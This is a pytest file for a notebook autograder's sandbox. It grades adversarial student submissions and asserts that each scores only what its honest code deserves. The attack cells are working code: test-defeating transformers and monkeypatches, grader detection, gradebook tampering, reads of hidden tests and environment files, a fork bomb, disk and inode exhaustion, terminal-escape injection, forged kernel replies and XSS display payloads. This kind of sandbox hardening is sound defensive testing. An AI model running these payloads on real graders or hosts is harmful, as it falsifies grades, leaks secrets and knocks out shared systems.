"""Cheating submissions of the real fc_nets assignment, graded end to end (issue 4, acceptance 1).

Each attack is a submission built from a notebook whose honest score is known (see ``adversarial_cases``):
the solution (30 points), the blank release (0) or wrong code for every exercise (0). The tricks are the
ones that fool plain ``nbgrader autograde``, which runs the test cells inside the student's kernel: IPython
input and AST transformers, patched numpy comparisons and grading helpers, a grader detector that switches
the cheats on, signal/trace/atexit hooks, edited test cells and metadata, fake saved outputs, hard-coded
visible answers; and the attacks on the grading host: writing the gradebook and the outputs, reading the
hidden tests and the solutions, listing the other students, fork bombs, huge files.

The whole batch is graded once (module fixture) by :func:`autograder.grade.batch.grade_assignment` on two Dask
workers, on a copy of the course; every test then checks one property of what was written. Each attack
must score exactly what its code deserves, and nothing written for a student may hold hidden-test or
solution lines or another student's id.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import time

import adversarial_cases as ac
import numpy as np
import pandas as pd
import pytest

from autograder.grade.job import GradingOptions
from autograder.kernel.plan import TMPFS_INODES
from autograder.report.results import validate_results

PREFIX = "a"
# Every cell runs (run_cells="all"): these tests exercise what running a student's cells does, the
# machinery the definitions-only default falls back to (tests/test_grade_definitions.py covers the default).
OPTIONS = GradingOptions(cell_timeout=30.0, test_timeout=60.0, submission_timeout=600.0, run_cells="all")

# --------------------------------------------------------------------------- the attack cells

INPUT_TRANSFORMER = """\
# Blank every later cell, test cells included: a grader that runs the test cells here sees them pass.
get_ipython().input_transformers_post.append(lambda lines: [])
print("ATTACK-RAN input transformer installed")
"""

AST_TRANSFORMER = """\
# Every later cell: asserts become `pass` and every top-level statement is wrapped in try/except,
# so no test cell run in this kernel can fail.
import ast


class _Defang(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Module(self, node):
        self.generic_visit(node)
        swallow = [ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])]
        node.body = [ast.Try(body=[stmt], handlers=swallow, orelse=[], finalbody=[]) for stmt in node.body]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Defang())
print("ATTACK-RAN AST transformer installed")
"""

NUMPY_PATCH = """\
# Every comparison numpy offers agrees, and every norm/maximum is 0 (so relative errors are 0).
import numpy as np

np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.linalg.norm = lambda *args, **kwargs: 0.0
np.max = lambda *args, **kwargs: 0.0
print("ATTACK-RAN numpy comparisons patched")
"""

HELPER_PATCH = """\
# The grading helpers: the course library's rel_error returns 0 everywhere, and the grader's hidden-test
# module is replaced by one whose checks do nothing -- in sys.modules and as files next to the notebook.
import importlib
import os
import sys
import types

import course_lib.gradient_check as _gc

_gc.rel_error = lambda *args, **kwargs: 0.0
rel_error = _gc.rel_error


def _noop(*args, **kwargs):
    return None


for _name in ("autograder", "autograder.checks", "autograder.checks.fc_nets"):
    try:
        _mod = importlib.import_module(_name)
        print("imported", _name, "from", getattr(_mod, "__file__", "?"))
    except Exception as exc:
        print("cannot import", _name, "-", type(exc).__name__)
        _mod = types.ModuleType(_name)
        _mod.__path__ = []
        sys.modules[_name] = _mod
_fake = sys.modules["autograder.checks.fc_nets"]
_fake.__getattr__ = lambda name: _noop
sys.modules["autograder.checks"].fc_nets = _fake
sys.modules["autograder"].checks = sys.modules["autograder.checks"]
os.makedirs("autograder/checks", exist_ok=True)
for _path, _text in (("autograder/__init__.py", ""), ("autograder/checks/__init__.py", ""),
                     ("autograder/checks/fc_nets.py", "def __getattr__(name):\\n    return lambda *a, **k: None\\n")):
    with open(_path, "w") as _f:
        _f.write(_text)
with open("course_lib/gradient_check.py", "a") as _f:
    _f.write("\\n\\ndef rel_error(x, y):\\n    return 0.0\\n")
print("ATTACK-RAN grading helpers replaced")
"""

FS_WRITE = """\
# Write extra credit into every gradebook that can be found, and forge the output files.
import glob
import os
import sqlite3


def _parents(path):
    path = os.path.abspath(path)
    while True:
        yield path
        if os.path.dirname(path) == path:
            return
        path = os.path.dirname(path)


_dbs = {os.path.join(d, "gradebook.db") for d in _parents(".")}
_dbs |= {TARGET["course"] + "/gradebook.db", TARGET["repo"] + "/gradebook.db", "/work/main/gradebook.db",
         "../../../gradebook.db", "../../gradebook.db", "../gradebook.db"}
_dbs |= set(glob.glob("/*/gradebook.db") + glob.glob("/*/*/gradebook.db") + glob.glob("/tmp/**/gradebook.db",
                                                                                        recursive=True))
for _db in sorted(_dbs):
    try:
        _con = sqlite3.connect(f"file:{_db}?mode=rw", uri=True)
        _con.execute("UPDATE grade SET extra_credit = 100, auto_score = max_score")
        _con.commit()
        print("WROTE gradebook", _db)
    except Exception as exc:
        print("could not write", _db, "-", type(exc).__name__)
try:
    from nbgrader.api import Gradebook

    with Gradebook("sqlite:///" + TARGET["course"] + "/gradebook.db") as _gb:
        _gb.add_student("zz-intruder")
    print("WROTE gradebook via nbgrader.api")
except Exception as exc:
    print("nbgrader.api could not write -", type(exc).__name__)
_forged = '{"score": 1000, "tests": []}'
for _path in [TARGET["out"] + "/grades.csv", TARGET["out"] + "/" + TARGET["student"] + "/results.json",
              TARGET["out"] + "/" + TARGET["student"] + "/feedback.html", TARGET["out"] + "/PWNED",
              TARGET["course"] + "/PWNED", TARGET["submissions"] + "/PWNED", TARGET["repo"] + "/PWNED",
              "../../../grades.csv", "../../../" + TARGET["student"] + "/results.json", "../../grades.csv",
              "../results.json", "../PWNED"]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)
        with open(_path, "w") as _f:
            _f.write(_forged)
        print("wrote (in its own view)", _path)
    except Exception as exc:
        print("could not write", _path, "-", type(exc).__name__)
print("ATTACK-RAN gradebook and output writes attempted")
"""

FS_READ = """\
# Read the hidden tests, the solutions and the reference library wherever they might be; print them.
import glob
import importlib.util
import os

_paths = set()
for _pattern in ["../../../source/**/*", "../../source/**/*", "../source/**/*", "/proc/1/root/**/source/**/*.ipynb",
                 TARGET["course"] + "/source/**/*", TARGET["repo"] + "/source/**/*",
                 TARGET["repo"] + "/autograder/checks/*.py", TARGET["course"] + "/autograder/checks/*.py",
                 TARGET["repo"] + "/course_lib/*.py", "/work/main/source/fc_nets/fc_nets.ipynb",
                 "/work/main/autograder/checks/*.py", "/work/main/course_lib/*.py", "/srv/**/*.ipynb",
                 "/home/**/*.ipynb", "/root/**/*.py", "/tmp/**/*.ipynb", "/tmp/**/*.py"]:
    _paths |= {p for p in glob.glob(_pattern, recursive=True) if os.path.isfile(p)}
for _name in ("autograder", "autograder.checks", "course_lib"):
    try:
        _spec = importlib.util.find_spec(_name)
    except Exception:
        _spec = None
    for _loc in (_spec.submodule_search_locations or []) if _spec else []:
        if os.path.abspath(_loc) != os.path.abspath("course_lib"):  # the released copy is no secret
            _paths |= set(glob.glob(os.path.join(_loc, "*.py")))
_paths |= {"/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/root/etc/hostname"}
_read = 0
for _p in sorted(_paths):
    try:
        with open(_p, errors="replace") as _f:
            print("=== READ", _p, "\\n", _f.read()[:20000])
        _read += 1
    except Exception as exc:
        print("could not read", _p, "-", type(exc).__name__)
print("ATTACK-RAN read", _read, "files")
"""

FS_LIST = """\
# List every folder where other students' submissions or results might be, and every process.
import os

for _d in ["..", "../..", "../../..", "../../../submitted", "../../../autograded", TARGET["submissions"],
           TARGET["out"], TARGET["course"], TARGET["course"] + "/autograded", os.path.dirname(TARGET["out"]),
           "/tmp", "/", "/sandbox", "/work", "/home", "/root", "/srv", "/dev/shm"]:
    try:
        print("LIST", _d, sorted(os.listdir(_d)))
    except Exception as exc:
        print("could not list", _d, "-", type(exc).__name__)
for _pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            print("PROC", _pid, _f.read().replace(b"\\0", b" ").decode(errors="replace"))
    except Exception as exc:
        print("could not read process", _pid, "-", type(exc).__name__)
print("ENV", dict(os.environ))
print("ATTACK-RAN listed")
"""

FORK_BOMB = """\
# A process left running, a daemon that leaves the session, then fork until the process limit says no.
import os
import subprocess

subprocess.Popen(["sleep", "1357.25"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "1357.5"])
    os._exit(0)
_children = 0
try:
    while True:
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "1357.75"])
        _children += 1
except OSError as exc:
    print("fork bomb stopped after", _children, "processes:", exc)
print("ATTACK-RAN fork bomb")
"""

SIGNAL_TRICKS = """\
# Ignore every catchable signal, swallow every error of later cells, make every `expected_*` variable of a
# running cell equal to the student's value (sys.settrace), fake a success banner at exit.
import atexit
import builtins
import signal
import sys
import threading

for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGUSR2,
             signal.SIGALRM, signal.SIGXCPU, signal.SIGXFSZ, signal.SIGPIPE):
    signal.signal(_sig, signal.SIG_IGN)


def _tracer(frame, event, arg):
    if not frame.f_code.co_filename.startswith("<ipython-input"):
        return None
    g = frame.f_globals
    for k in [k for k in g if isinstance(k, str) and k.startswith("expected_")]:
        if k[len("expected_"):] in g:
            g[k] = g[k[len("expected_"):]]
    return _tracer


sys.settrace(_tracer)
threading.settrace(_tracer)
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
atexit.register(lambda: print("All tests passed. Score: 30/30"))
builtins.AssertionError = type("AssertionError", (Exception,), {})
print("ATTACK-RAN signal, trace and atexit hooks installed")
"""

DETECT_GRADER = """\
# Detect the grader (environment, loaded modules, process tree, files); when found, switch on every cheat.
import builtins
import os
import sys

_seen = {
    "env": sorted(k for k in os.environ if any(w in k.upper() for w in ("GRAD", "NBGRADER", "JUPYTER", "JPY", "CI"))),
    "modules": sorted(m for m in sys.modules if m.split(".")[0] in ("nbgrader", "autograder", "nbclient",
                                                                   "ipykernel", "jupyter_client", "pytest")),
    "argv": sys.argv, "cwd": os.getcwd(), "files": sorted(os.listdir(".")), "uid": os.getuid(),
}
try:
    _seen["pid1"] = open("/proc/1/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
except OSError as exc:
    _seen["pid1"] = type(exc).__name__
print("DETECTED", _seen)
if _seen["env"] or _seen["modules"] or "server.py --init" in _seen["pid1"]:
    import numpy as np

    import course_lib.gradient_check as _gc

    np.allclose = np.array_equal = lambda *args, **kwargs: True
    np.linalg.norm = np.max = lambda *args, **kwargs: 0.0
    _gc.rel_error = rel_error = lambda *args, **kwargs: 0.0
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    print("grader detected: cheats on")
print("ATTACK-RAN grader detection")
"""

HUGE_FILE = """\
# Fill the disk: 1 GiB into the notebook's folder, /tmp and /dev/shm.
import os

for _path in ("huge.bin", "/tmp/huge.bin", "/dev/shm/huge.bin"):
    try:
        with open(_path, "wb") as _f:
            for _ in range(1024):
                _f.write(b"\\0" * (1 << 20))
        print("wrote", _path, os.path.getsize(_path))
    except OSError as exc:
        print("stopped writing", _path, "at", os.path.getsize(_path), "bytes:", exc)
print("ATTACK-RAN huge files")
"""

EMPTY_FILES = """\
# Pin kernel memory that no byte limit counts: empty files (an inode and a dentry each) in the notebook's
# folder and in /tmp, a million per folder if the file systems allow it.
import os

for _dir in ("many", "/tmp/many"):
    os.makedirs(_dir, exist_ok=True)
    _n = 0
    try:
        while _n < 1_000_000:
            open(os.path.join(_dir, str(_n)), "w").close()
            _n += 1
        print("created", _n, "files in", _dir)
    except OSError as exc:
        print("stopped after", _n, "files in", _dir + ":", exc.strerror)
print("ATTACK-RAN empty files")
"""

FAKE_OUTPUT = "FAKE-SAVED-OUTPUT-q9: all visible checks passed"
OPTIMIZERS = {"sgd_momentum": ("velocity",), "sgd_nesterov_momentum": ("velocity",), "rmsprop": ("cache",),
              "adam": ("m", "v")}


def _hardcoded(course: ac.Course, targets: ac.Targets, student: str) -> bytes:
    """The solution, but the four update rules return the visible checks' expected arrays, whatever the input."""
    from course_lib import gradient_check, optim

    nb = course.examples()["solution"]
    for name, state in OPTIMIZERS.items():
        test = next(c for c in course.source.cells if ac._nbg(c).get("grade_id") == f"test_{name}")
        ns = {name: getattr(optim, name), "rel_error": gradient_check.rel_error}
        exec(test.source.split("### BEGIN HIDDEN TESTS")[0], ns)  # the visible part, with the reference rule
        values = {k: ns[f"expected_{k}"].tolist() for k in state}
        if name == "adam":
            values["t"] = 6
        nb = ac.replace_solution(nb, name, (
            f"def {name}(w, dw, config=None):\n"
            "    config = {} if config is None else config\n"
            f"    config.update({{k: np.array(v) if isinstance(v, list) else v for k, v in {values!r}.items()}})\n"
            f"    return np.array({ns['expected_next_w'].tolist()!r}), config"))
    return ac.as_bytes(nb)


def _edited(course: ac.Course, targets: ac.Targets, student: str) -> bytes:
    """The partial notebook with its test cells and metadata edited, reordered, and fake passing outputs."""
    import nbformat

    nb = course.examples()["partial"]
    by_id = {ac._nbg(c).get("grade_id"): c for c in nb.cells if ac._nbg(c).get("grade_id")}
    nb.cells.remove(by_id["test_relu_forward"])  # a deleted test cell (its exercise is solved)
    for cell in nb.cells:
        meta = ac._nbg(cell)
        if meta.get("grade"):
            meta["points"] = 100
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=FAKE_OUTPUT + "\n")]
    ac._nbg(by_id["test_affine_backward"])["grade_id"] = "test_affine_backward_v2"
    for gid in ("test_FullyConnectedNet", "test_adam", "test_rmsprop"):  # unsolved: their checks emptied
        by_id[gid].source = "pass"
    ac._nbg(by_id["test_sgd_momentum"])["grade_id"] = "test_affine_forward"  # a duplicated grade_id
    nb.cells.remove(by_id["adam"])  # reordered: the last exercise first, relu_backward before relu_forward
    nb.cells.insert(ac.setup_index(nb) + 1, by_id["adam"])
    nb.cells.remove(by_id["relu_backward"])
    nb.cells.insert(nb.cells.index(by_id["relu_forward"]), by_id["relu_backward"])
    bonus = ac.code_cell("print('bonus')", "bonus")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "bonus",
                                  "points": 1000, "schema_version": 3}
    nb.cells.append(bonus)
    nb.metadata["nbgrader"] = {"score": 30}
    return ac.as_bytes(nb)


# --------------------------------------------------------------------------- hostile text and replies (issue 8.5)

SURROGATES = r"""
# Lone surrogates and terminal escapes (clear screen, retitle the terminal, write the clipboard, a bidi
# override) in everything a cell can print: stdout, stderr, a rich display, an error.
import sys

from IPython.display import display

print("lone \udc80 surrogate \ud800 and \x1b[2J\x1b[31mRED\x1b]0;PWNED-TITLE\x07 \u202eevil\x1b[0m")
sys.stderr.write("err \udfff \x1b[1A\r\x1b[K\x1b]52;c;cHduZWQ=\x07\n")
display({"text/plain": "disp \udc80 \x1b[5m", "text/html": "<b>\udc80</b>"}, raw=True)
print("ATTACK-RAN surrogates and escapes printed")
raise ValueError("exc \udc80 \x1b]0;PWNED-EXC\x07")
"""

FORGED_ESCAPES = r"""
# Forge the kernel's reply to the grader (through the kernel server's own wire module): an error whose
# message carries terminal escapes, which the grader printed raw in its console summary.
import sys

_wire = sys.modules["_autograder_wire"]
_encode = _wire.encode


def _forged(obj, *args, **kwargs):
    _wire.encode = _encode  # this cell's reply only
    return _encode({"seq": obj.get("seq"), "ok": False, "error": {"kind": "too_large", "message":
                    "\x1b[2J\x1b[H\x1b]0;PWNED-TITLE\x07\x1b]52;c;cHduZWQ=\x07\u202eFORGED\x1b[8m"}}, *args, **kwargs)


_wire.encode = _forged
print("ATTACK-RAN forged reply armed")
"""

FORGED_HEADER = r"""
# Forge the kernel's reply to the grader's first call of a student function (a hidden test's): a frame whose
# JSON header is 60 MB (the grader read and parsed it all, 1.4 GB, before rejecting it).
import struct
import sys

_wire = sys.modules["_autograder_wire"]
_encode = _wire.encode


def _huge(obj, *args, **kwargs):
    value = obj.get("value")
    if not (isinstance(value, dict) and "args" in value):  # not the reply to a call
        return _encode(obj, *args, **kwargs)
    _wire.encode = _encode
    hlen = 60 * 2**20
    return [struct.pack(">4sQ", _wire.MAGIC, hlen + 4), struct.pack(">I", hlen), b"[" * hlen]


_wire.encode = _huge
print("ATTACK-RAN forged header armed")
"""

HOSTILE_DISPLAYS = r"""
# Outputs that nbconvert's template renders unescaped (mermaid) or puts into unquoted attributes (image size).
from IPython.display import publish_display_data

_js = "document.title+='PWNED'"
publish_display_data({"text/vnd.mermaid": f"graph TD\n<img src=x onerror=\"{_js}\"><script>{_js}</script>"})
publish_display_data({"image/png": "AAAA"}, metadata={"width": "1 onerror=document.title+=`PWNED`",
                                                       "image/png": {"height": "1 onerror=document.title+=`PWNED`"}})
publish_display_data({"application/javascript": _js, "text/html": f"<script>{_js}</script>ok"})
publish_display_data({"image/jpeg": "AAAA"}, metadata={"filenames": {"image/jpeg": "x\" onerror=\"" + _js}})
print("ATTACK-RAN hostile displays published")
"""


def _with_surrogate_json(course: ac.Course, targets: ac.Targets, student: str) -> bytes:
    """The solution plus :data:`SURROGATES`, and a markdown cell whose JSON holds a lone surrogate (valid JSON)."""
    import json

    import nbformat

    nb = ac.with_cells(course.examples()["solution"], [SURROGATES])
    md = nbformat.v4.new_markdown_cell("My answer \udc80 \x1b]0;PWNED-MD\x07 $x^2$")
    md.id = "surrogate-md"
    nb.cells.insert(1, md)
    return json.dumps(nb, ensure_ascii=True, indent=1).encode("ascii")


# The partial example fills the first half of the release's solution cells: six of 13 (11 exercises and the two
# written answers of section 7), i.e. the layers, the loss and the net.
SOLVED_IN_PARTIAL = frozenset({"test_affine_forward", "test_affine_backward", "test_relu_forward",
                               "test_relu_backward", "test_softmax_loss", "test_FullyConnectedNet"})
ALL = None  # every test

CASES = [  # the slowest first (see adversarial_cases.student_id)
    ac.Case("forkbomb", "background process, setsid daemon, fork bomb", "solution",
            ac.example("solution", [FORK_BOMB]), ALL),
    ac.Case("signals", "signals ignored, settrace, custom exc handler, atexit, AssertionError", "wrong",
            ac.example("wrong", [SIGNAL_TRICKS])),
    ac.Case("hugefile", "writes 1 GiB files (RLIMIT_FSIZE)", "solution", ac.example("solution", [HUGE_FILE]), ALL),
    ac.Case("emptyfiles", "a million empty files per folder (tmpfs inode caps)", "solution",
            ac.example("solution", [EMPTY_FILES]), ALL),
    ac.Case("solution", "the solution notebook (control)", "solution", ac.example("solution"), ALL),
    ac.Case("blank", "the blank release (control)", "blank", ac.example("blank")),
    ac.Case("wrong", "wrong code for every exercise (control)", "wrong", ac.example("wrong")),
    ac.Case("inputtransformer", "input transformer blanking every later cell", "blank",
            ac.example("blank", [INPUT_TRANSFORMER])),
    ac.Case("asttransformer", "AST transformer: assert -> pass, errors swallowed", "blank",
            ac.example("blank", [AST_TRANSFORMER])),
    ac.Case("numpypatch", "numpy comparisons/norms patched to agree", "wrong", ac.example("wrong", [NUMPY_PATCH])),
    ac.Case("helperpatch", "rel_error and autograder.checks replaced (modules and files)", "wrong",
            ac.example("wrong", [HELPER_PATCH])),
    ac.Case("fswrite", "writes extra credit into gradebooks, forges grades.csv/results.json", "blank",
            ac.example("blank", [FS_WRITE])),
    ac.Case("fsread", "reads source notebook, checks and reference library, prints them", "blank",
            ac.example("blank", [FS_READ])),
    ac.Case("fslist", "lists submissions, outputs, processes, environment", "blank",
            ac.example("blank", [FS_LIST])),
    ac.Case("detect", "detects the grader, then switches every cheat on", "wrong",
            ac.example("wrong", [DETECT_GRADER])),
    ac.Case("hardcoded", "update rules return the visible checks' answers", "solution", _hardcoded,
            frozenset({"test_affine_forward", "test_affine_backward", "test_relu_forward", "test_relu_backward",
                       "test_softmax_loss", "test_FullyConnectedNet", "test_overfit_settings"})),
    ac.Case("celledits", "test cells deleted/emptied/reordered, points and grade_ids changed, fake outputs",
            "partial", _edited, SOLVED_IN_PARTIAL),
    ac.Case("surrogates", "prints lone surrogates and terminal escapes; its JSON holds a lone surrogate", "solution",
            _with_surrogate_json, ALL),
    ac.Case("forgedescape", "forges the kernel's reply: an error message full of terminal escapes", "solution",
            ac.example("solution", [FORGED_ESCAPES]), ALL),
    ac.Case("forgedheader", "forges the kernel's reply to the first hidden-test call: a 60 MB JSON header",
            "solution", ac.example("solution", [FORGED_HEADER])),  # re-armed by every restart: no test passes
    ac.Case("mimetypes", "mermaid, javascript, html scripts, image size and file name metadata with scripts",
            "solution", ac.example("solution", [HOSTILE_DISPLAYS]), ALL),
]

# Issue 8: hidden checks that trusted student code.
CLEAR_LIST = """\
# The net empties the hidden_dims list the grader gives it (all but the one the scale check reads by
# parameter name), and is a linear classifier: a check that built its reference from that list after the
# student's code ran expected a one-layer net, and this one matched it.
class FullyConnectedNet:
    def __init__(self, hidden_dims, input_dim=3 * 32 * 32, num_classes=10, reg=0.0, weight_scale=1e-2,
                 dtype=np.float32):
        if list(hidden_dims) != [200, 150]:
            hidden_dims.clear()
        self.reg, self.num_layers, self.dtype = reg, 1 + len(hidden_dims), dtype
        dims = [input_dim] + list(hidden_dims) + [num_classes]
        self.params = {}
        for i in range(1, self.num_layers + 1):
            self.params[f"W{i}"] = (weight_scale * np.random.randn(dims[i - 1], dims[i])).astype(dtype)
            self.params[f"b{i}"] = np.zeros(dims[i], dtype=dtype)

    def loss(self, X, y=None):
        scores, cache = affine_forward(X.astype(self.dtype), self.params["W1"], self.params["b1"])
        if y is None:
            return scores
        loss, dscores = softmax_loss(scores, y)
        _, dw, db = affine_backward(dscores, cache)
        w = self.params["W1"]
        return loss + 0.5 * self.reg * np.sum(w * w), {"W1": dw + self.reg * w, "b1": db}


print("ATTACK-RAN linear classifier that empties hidden_dims")
"""

REPLAY = """\
# A net that computes nothing (the L2 term only), and layers that remember the net's inputs and replay its
# outputs: correct everywhere else, so they pass their own checks. Composed after the net ran on X, the
# layers give exactly the net's outputs: a check that judged the net against that composition passed it.
_seen, _state = {}, {"replay": None}
_affine_forward, _affine_backward, _softmax_loss = affine_forward, affine_backward, softmax_loss


def _key(x):
    return np.asarray(x, dtype=np.float64).tobytes()


def affine_forward(x, w, b):
    if _key(x) in _seen:
        _state["replay"] = _seen[_key(x)]
    replay = _state["replay"]
    if replay is not None and np.shape(w)[1] == replay.shape[1]:
        return replay.copy(), (x, w, b)
    return _affine_forward(x, w, b)


def affine_backward(dout, cache):
    if _state["replay"] is not None:
        return tuple(np.zeros_like(v) for v in cache)
    return _affine_backward(dout, cache)


def softmax_loss(x, y):
    if _state["replay"] is not None:
        _state["replay"] = None
        return 0.0, np.zeros_like(x)
    return _softmax_loss(x, y)


def _nothing(self, X, y=None):
    p = self.params
    scores = np.zeros((len(X), p[f"W{self.num_layers}"].shape[1]))
    _seen[_key(X)] = scores
    if y is None:
        return scores
    ws = [p[f"W{i}"] for i in range(1, self.num_layers + 1)]
    grads = {k: (self.reg * v if k.startswith("W") else np.zeros_like(v)) for k, v in p.items()}
    return 0.5 * self.reg * sum(float(np.sum(w * w)) for w in ws), grads


FullyConnectedNet.loss = _nothing
print("ATTACK-RAN a net that computes nothing, layers that replay it")
"""

ALL_BUT_NET = frozenset({"test_affine_forward", "test_affine_backward", "test_relu_forward", "test_relu_backward",
                         "test_softmax_loss", "test_overfit_settings", "test_sgd_momentum",
                         "test_sgd_nesterov_momentum", "test_rmsprop", "test_adam"})
CASES += [
    ac.Case("clearlist", "linear net that empties the hidden_dims list it is given", "solution",
            ac.example("solution", [CLEAR_LIST], at=-1), ALL_BUT_NET),
    ac.Case("replay", "a net that computes nothing, layers that replay its outputs", "solution",
            ac.example("solution", [REPLAY], at=-1), ALL_BUT_NET),
]
ATTACKS = [c.name for c in CASES if c.name not in ("solution", "blank", "wrong")]


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    yield from ac.graded(tmp_path_factory, "adversarial", PREFIX, CASES, OPTIONS)


# --------------------------------------------------------------------------- scores

def test_controls_score_full_marks_and_zero(batch):
    print("\n" + batch.report())
    assert batch.results("solution")["score"] == batch.course.max_score == 30
    assert batch.results("blank")["score"] == 0 and batch.results("wrong")["score"] == 0
    assert batch.summary.graded == len(CASES) and batch.summary.grader_errors == []


@pytest.mark.parametrize("name", [c.name for c in CASES])
def test_each_submission_scores_exactly_what_its_code_deserves(batch, name):
    case, doc = batch.case(name), batch.results(name)
    validate_results(doc)
    assert batch.passing(name) == case.expected_passing(batch.course), doc["output"]
    assert doc["score"] == case.expected_score(batch.course)
    # tests and points come from the source notebook, whatever the submission's metadata says
    assert {g: t["max_score"] for g, t in batch.tests(name).items()} == {**batch.course.points,
                                                                        **batch.course.manual_points}
    assert not doc["extra_data"]["grader_error"]
    assert batch.summary.scores[batch.sid(name)] == (doc["score"], 30.0)


@pytest.mark.parametrize("name", [n for n in ATTACKS if n not in ("hardcoded", "celledits", "forgedescape")])
def test_each_attack_cell_really_ran(batch, name):
    assert ac.RAN in batch.outputs(name)


def test_hard_coded_answers_pass_the_visible_checks_only(batch):
    tests = batch.tests("hardcoded")
    for rule in OPTIMIZERS:
        message = tests[f"test_{rule}"]["output"]
        assert message.startswith(f"{rule}, step 1 from config"), message  # a hidden check's message


def test_cells_run_in_the_kernel_cannot_change_the_verdicts(batch):
    """What the transformers and hooks did to the kernel is visible in its own outputs, not in the scores."""
    # the student's own gradient checks now report 0 errors, with wrong code
    assert "dx error: 0.0" in batch.outputs("numpypatch") and "dx error: 0.0" in batch.outputs("signals")
    out = batch.outputs("helperpatch")
    assert "cannot import autograder - ModuleNotFoundError" in out  # the grader's code is not in the sandbox
    out = batch.outputs("detect")
    assert "grader detected: cheats on" in out and "'COURSE_GRADING'" in out  # it is set, and helps nothing
    assert "autograder" not in out.split("'modules': ")[1].split("]")[0]


# --------------------------------------------------------------------------- the grading host

def test_gradebook_and_outputs_hold_the_honest_scores(batch):
    from nbgrader.api import Gradebook

    from autograder.report.gradebook import course_settings

    out = batch.targets.out
    df = pd.read_csv(out / "grades.csv").set_index("student")
    assert sorted(df.index) == sorted(batch.ids)
    db_url, course_id = course_settings(batch.course.root)
    with Gradebook(db_url, course_id) as gb:
        assert sorted(s.id for s in gb.students) == sorted(batch.ids)  # no intruder row
        for case in CASES:
            sid = batch.sid(case.name)
            expected = case.expected_score(batch.course)
            assert df.loc[sid, "score"] == expected
            assert gb.find_submission(ac.ASSIGNMENT, sid).score == expected
    with sqlite3.connect(db_url.removeprefix("sqlite:///")) as con:
        assert con.execute("SELECT COUNT(*) FROM grade WHERE extra_credit IS NOT NULL AND extra_credit != 0"
                           ).fetchone() == (0,)
    forged = [p for root in (out, batch.course.root, batch.targets.submissions, ac.REPO, out.parent)
              for p in root.rglob("PWNED")]
    assert forged == []
    out = batch.outputs("fswrite")
    assert "could not write /work/main/gradebook.db" in out and "WROTE" not in out


def test_no_hidden_tests_solutions_or_reference_code_in_anything_written_for_a_student(batch):
    secrets = batch.course.secrets()
    assert all(secrets.values())
    for sid in batch.ids:
        assert ac.leaks(batch, sid, secrets) == [], sid
    out = batch.outputs("fsread")
    assert "=== READ /proc/self/mountinfo" in out and "could not read /proc/1/environ" in out


def test_no_other_students_id_in_anything_written_for_a_student(batch):
    for sid in batch.ids:
        files = batch.written_for(sid)
        assert any(p.endswith("feedback.html") for p in files) and any(p.endswith("results.json") for p in files)
        for path, text in files.items():
            others = [o for o in batch.ids if o != sid and o in text]
            assert others == [], (path, others)
    out = batch.outputs("fslist")
    assert "LIST /sandbox ['server', 'work']" in out and "could not list " + str(batch.targets.submissions) in out


def test_process_and_file_limits_stop_bombs_cleanly(batch):
    out = batch.outputs("forkbomb")
    assert "fork bomb stopped after" in out and "Resource temporarily unavailable" in out
    out = batch.outputs("hugefile")
    assert out.count("File too large") + out.count("No space left") == 3 and "wrote " not in out
    out = batch.outputs("emptyfiles")  # both file systems run out of inodes long before a million files
    stopped = re.findall(r"stopped after (\d+) files in \S+: No space left on device", out)
    assert len(stopped) == 2 and "created " not in out and ac.RAN in out, out
    assert all(int(n) <= TMPFS_INODES for n in stopped), stopped


def test_no_process_is_left_running(batch):
    assert ac.wait_until_gone("sleep 1357.") == []  # the fork bomb's and the daemons' processes
    assert ac.processes_matching(str(batch.scratch)) == []  # this batch's kernels and supervisors
    assert batch.leftovers() == []  # workdirs and kernel staging removed


def test_saved_outputs_of_a_submission_are_never_shown(batch):
    assert FAKE_OUTPUT not in batch.feedback("celledits")


def test_no_input_or_project_file_changes(batch):
    assert batch.input_changes() == []
    assert batch.repo_changes() == []  # tracked files and root grading outputs, while grading


# --------------------------------------------------------------------------- one sandbox, another's bomb

def test_a_fork_bomb_does_not_starve_other_students_kernels(tmp_path):
    """Processes are counted per uid (RLIMIT_NPROC): each kernel must have its own."""
    from autograder.kernel.client import StudentKernel
    from autograder.kernel.plan import Limits
    from autograder.kernel.process import namespace_support

    if os.geteuid() != 0:  # an ordinary user's kernels all run as that user: one RLIMIT_NPROC for all of them
        pytest.skip("kernels of a uid of their own need root (as in CI); see docs/design.md, isolation modes")
    assert namespace_support()[0], "the grading host must support namespace isolation"
    limits = Limits(cell_timeout=60.0)
    with StudentKernel(tmp_path, limits=limits) as bomber:
        res = bomber.run_cell(FORK_BOMB.replace("1357.", "2468."))
        assert res.status == "ok" and "fork bomb stopped" in res.outputs[0]["text"]
        t0 = time.monotonic()
        for _ in range(2):  # started while the bomb's processes are alive, as on another Dask worker
            with StudentKernel(tmp_path, limits=limits) as other:
                res = other.run_cell("import subprocess\nfrom numpy import sum\n"
                                     "print(subprocess.run(['echo', 'fine'], capture_output=True, text=True).stdout)")
                assert res.status == "ok" and res.outputs[0]["text"] == "fine\n\n", res
